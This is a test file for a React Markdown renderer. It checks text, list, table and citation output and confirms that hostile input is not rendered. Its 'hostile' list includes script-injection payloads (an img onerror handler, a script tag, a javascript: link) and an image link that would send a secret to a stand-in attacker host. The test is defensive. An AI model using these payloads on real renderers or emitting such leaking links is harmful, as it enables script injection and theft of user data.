import { render } from '@testing-library/react';
import { expect, test } from 'vitest';
import { Markdown } from './Markdown';

const html = (text: string, citation?: (number: number) => string) => {
  const { container } = render(<Markdown text={text} citation={citation} />);
  return container.firstElementChild!.innerHTML;
};

test('text, lists and tables are rendered', () => {
  expect(html('**Yes**, `a`\n\n- one\n- two')).toBe(
    '<p><strong>Yes</strong>, <code>a</code></p><ul><li>one</li><li>two</li></ul>',
  );
  expect(html('| a | b |\n|---|---|\n| 1 | 2 |')).toContain('<td>2</td>');
});

test('HTML, images and links are not rendered', () => {
  const hostile = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '![pixel](https://evil.example/?q=secret)',
    '[click](javascript:alert(1))',
    '[look](https://evil.example)',
    '<https://evil.example>',
    'https://evil.example/a',
    '[1]: https://evil.example "x"\n\nsee [1]',
  ];
  for (const text of hostile) {
    const drawn = html(text, (number) => `(${number})`);
    expect(drawn).not.toMatch(/<(img|script|a|iframe|link)\b/i);
    expect(drawn).not.toMatch(/(href|src|on\w+)="/i);
  }
});

test('invisible characters are escaped', () => {
  expect(html('pay\u202e001')).toBe('<p>pay\\u202e001</p>');
});

test('citations are rendered everywhere except in code', () => {
  expect(html('It leaks [2], **and [10]**; `[3]`', (number) => `(${number})`)).toBe(
    '<p>It leaks (2), <strong>and (10)</strong>; <code>[3]</code></p>',
  );
  expect(html('[1]: https://evil.example\n\nIt leaks [1].', (number) => `(${number})`)).toContain('It leaks (1).');
});
